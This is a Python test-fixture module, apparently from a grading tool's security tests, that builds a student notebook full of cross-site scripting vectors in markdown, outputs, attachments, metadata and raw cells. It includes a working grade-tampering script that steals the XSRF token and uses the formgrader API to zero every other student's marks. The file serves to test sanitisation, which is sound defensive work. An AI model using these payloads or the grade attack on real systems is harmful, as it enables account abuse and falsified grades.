"""A student notebook that attacks whoever opens a page made of it (formgrader, the feedback).

Every vector, if it ran or loaded anything, would leave a mark where the tests look: a script
appends its name to ``window.top.__pwned`` and requests ``<canary>/script/<name>``; markup that
loads or navigates without script (a refresh, a form, a style import, a frame) requests
``<canary>/load/<name>``. `GRADE_ATTACK` is the attack the issue describes: from the
instructor's logged-in formgrader, it gives the attacker full marks and every other student 0
through formgrader's own API.
"""

from __future__ import annotations

import base64
import copy

ATTACKER = "mallory"


def run(name: str, canary: str) -> str:
    """JavaScript that leaves the mark of ``name`` (no double quotes: it goes into attributes)."""
    return (f"(top.__pwned=top.__pwned||[]).push('{name}');"
            f"(new Image).src='{canary}/script/{name}'")


GRADE_ATTACK = """
(async function () {
  var xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || [])[1] || '');
  var api = location.origin + '/formgrader/api';
  var subs = await (await fetch(api + '/submitted_notebooks/01_losses/losses')).json();
  for (var s of subs) {
    var grades = await (await fetch(api + '/grades?submission_id=' + s.id)).json();
    for (var g of grades) {
      await fetch(api + '/grade/' + g.id, {method: 'PUT', headers: {'X-XSRFToken': xsrf},
        body: JSON.stringify({manual_score: s.student === 'ATTACKER' ? g.max_score : 0})});
    }
  }
  (top.__pwned = top.__pwned || []).push('grade attack done');
})();
""".replace("ATTACKER", ATTACKER)


def markdown_attacks(canary: str) -> dict[str, str]:
    """name -> the source of a markdown cell that attacks with it."""
    def js(name: str) -> str:
        return run(name, canary)

    svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js("svg data")}"/>'
                           .encode()).decode()
    page = base64.b64encode(f"<script>{js('data page')}</script>".encode()).decode()
    return {
        "script": f"<script>{js('script')}</script>\n<script>{GRADE_ATTACK}</script>",
        "img onerror": f'<img src="x" onerror="{js("img onerror")}">',
        "svg onload": f'<svg onload="{js("svg onload")}"><circle r="4"/></svg>',
        "svg script": f"<svg><script>{js('svg script')}</script></svg>",
        "javascript link": f'<a id="jslink" href="javascript:{js("javascript link")}">click me</a>',
        "iframe srcdoc": f'<iframe srcdoc="<script>{js("iframe srcdoc")}</script>"></iframe>',
        "iframe src": f'<iframe src="{canary}/load/iframe"></iframe>',
        "form": f'<form id="f" action="{canary}/load/form"><input name="q" autofocus '
                f'onfocus="{js("autofocus")}"><button>Go</button></form>',
        "meta refresh": f'<meta http-equiv="refresh" content="0;url={canary}/load/meta-refresh">',
        "style": f"<style>@import url({canary}/load/style-import); "
                 f"body {{ background: url({canary}/load/style-background) }} "
                 f"p {{ width: expression(alert(1)) }}</style>",
        "style attribute": f'<div style="background-image: url({canary}/load/style-attribute)">styled</div>',
        "link stylesheet": f'<link rel="stylesheet" href="{canary}/load/link">',
        "base": f'<base href="{canary}/load/base/">',
        "object": f'<object data="{canary}/load/object"></object><embed src="{canary}/load/embed">',
        "markdown link": f"[a markdown link](<javascript:{js('markdown link')}>)",
        "markdown image": f"![a markdown image](<javascript:{js('markdown image')}>)",
        "markdown image quote": f'![x](x" onerror="{js("markdown image quote")})',
        "autolink": f"<javascript:{js('autolink')}>",
        "case": f"<ScRiPt>{js('case script')}</sCrIpT><IMG SRC=x OnErRoR=\"{js('case img')}\">",
        "entities": f'<a href="&#106;&#97;vascript:{js("entities")}">e</a>'
                    f'<a href="jav&#x09;ascript:{js("tab entity")}">t</a>'
                    f'<a href="&#x6A;avascript&colon;{js("colon entity")}">c</a>',
        "data urls": f'<a href="data:text/html;base64,{page}">data link</a>'
                     f'<iframe src="data:text/html;base64,{page}"></iframe>'
                     f'<img src="data:image/svg+xml;base64,{svg}">',
        "event handlers": f'<details open ontoggle="{js("details ontoggle")}"><summary>s</summary></details>'
                          f'<body onload="{js("body onload")}">'
                          f'<video><source onerror="{js("video source")}"></video>'
                          f'<marquee onstart="{js("marquee")}">m</marquee>',
        "mutation": f'<noscript><p title="</noscript><img src=x onerror={js("noscript")}>"></noscript>'
                    f'<math><mtext><table><mglyph><style><img src=x onerror="{js("mathml")}">',
        "same-site requests": '<img src="/logout"><img src="../../../api/shutdown">'
                              '<img src="//127.0.0.1:9/x">',
        "clobbering": '<h2 id="test_mse">heading</h2><input class="score" id="test_mse_score" value="99">'
                      '<form name="submission_id"></form><img name="base_url" src="x">',
        "math": r"The loss is $L = \frac{1}{N}\sum_i (y_i - \hat y_i)^2$ and $a < b$, "
                "and in display:\n\n$$\\nabla_W L = X^T (\\hat y - y) / N$$",
    }


def output_attacks(canary: str) -> list[dict]:
    """Outputs of a code cell that would run script or load something if shown as they are."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run("svg output", canary)}"><script>' \
          f'{run("svg output script", canary)}</script></svg>'
    return [
        {"output_type": "display_data", "metadata": {},
         "data": {"text/html": f"<script>{run('html output', canary)}</script>"
                               f"<img src=x onerror=\"{run('html output img', canary)}\">",
                  "text/plain": "<IPython.core.display.HTML object>"}},
        {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}},
         "data": {"text/html": f"<script>{run('isolated html output', canary)}</script>"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"application/javascript": run("javascript output", canary)}},
        {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": svg}},
        {"output_type": "execute_result", "execution_count": 1, "metadata": {},
         "data": {"text/markdown": f"<img src=x onerror=\"{run('markdown output', canary)}\">",
                  "text/latex": r"$\href{javascript:alert(1)}{x}$"}},
        {"output_type": "stream", "name": f'stdout" onmouseover="{run("stream name", canary)}',
         "text": f"<script>{run('stream text', canary)}</script>"},
    ]


def hostile_cells(canary: str, malformed: bool = False) -> list[dict]:
    """Every cell of the attack: markdown, a code cell with hostile outputs (and, if
    ``malformed``, a prompt that is not a number), a markdown cell with hostile attachments,
    raw cells."""
    cells = [{"cell_type": "markdown", "metadata": {"tags": [f'x" onclick="{run("tag", canary)}']},
              "source": source} for source in markdown_attacks(canary).values()]
    cells.append({"cell_type": "code", "execution_count": 1, "metadata": {},
                  "outputs": output_attacks(canary), "source": "print('hello')"})
    if malformed:  # nbformat's schema refuses it: only what reads a raw upload sees it
        cells[-1]["execution_count"] = f'<img src=x onerror="{run("prompt", canary)}">'

    svg = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run("attachment", canary)}"/>'
                           .encode()).decode()
    html = base64.b64encode(f"<script>{run('html attachment', canary)}</script>".encode()).decode()
    cells.append({"cell_type": "markdown", "metadata": {},
                  "attachments": {"evil.svg": {"image/svg+xml": svg}, "page.html": {"text/html": html},
                                  'x" onerror="alert(1)': {"image/png": "iVBORw0KGgo="}},
                  "source": "![an svg](attachment:evil.svg) ![a page](attachment:page.html) "
                            '![a name](attachment:x" onerror="alert(1))'})
    for mimetype in ("text/html", "text/markdown", ""):
        cells.append({"cell_type": "raw", "metadata": {"raw_mimetype": mimetype, "format": mimetype},
                      "source": f"<script>{run('raw ' + (mimetype or 'plain'), canary)}</script>"})
    return cells


def hostile_notebook(base: dict, canary: str, malformed: bool = False) -> dict:
    """``base`` (a submission) with every attack cell added after its first cell."""
    notebook = copy.deepcopy(base)
    notebook["cells"][1:1] = hostile_cells(canary, malformed)
    notebook["metadata"]["title"] = f'</title><script>{run("title", canary)}</script>'
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0}}
    return notebook
